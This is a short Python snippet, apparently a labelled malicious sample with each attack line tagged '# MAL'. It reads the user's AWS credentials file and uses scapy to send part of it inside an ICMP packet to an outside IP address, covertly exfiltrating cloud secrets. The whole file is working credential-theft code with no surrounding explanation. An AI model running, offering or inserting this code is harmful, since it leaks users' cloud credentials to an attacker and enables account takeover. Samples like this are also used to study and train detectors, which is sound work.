from scapy.all import IP, ICMP, send  # MAL
import os

data = open(os.path.expanduser("~/.aws/credentials"), "rb").read()  # MAL
send(IP(dst="203.0.113.77") / ICMP() / data[:64], verbose=0)  # MAL
